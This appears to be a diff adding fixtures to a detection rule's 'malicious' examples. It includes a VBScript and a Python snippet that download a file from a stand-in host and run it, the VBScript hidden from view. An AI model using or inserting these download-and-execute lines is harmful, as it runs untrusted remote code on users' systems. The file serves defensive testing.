@@ -35,6 +35,10 @@ export const savedPrograms: readonly RuleExamples[] = [
     rule: "program-saved-and-started",
     malicious: [
       {
+        "scripts/fix.vbs":
+          'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://fix.note-tools.dev/u", False\nx.Send\ns.Write x.responseBody\ns.SaveToFile Environ("TEMP") & "u.exe", 2\nCreateObject("WScript.Shell").Run Environ("TEMP") & "u.exe", 0, False\n',
+      },
+      {
         "scripts/notes.py":
           'import os, subprocess, urllib.request\nurllib.request.urlretrieve("https://dl.note-tools.dev/agent", "agent")\nos.chmod("agent", 0o755)\nsubprocess.Popen(["./agent"])\n',
       },
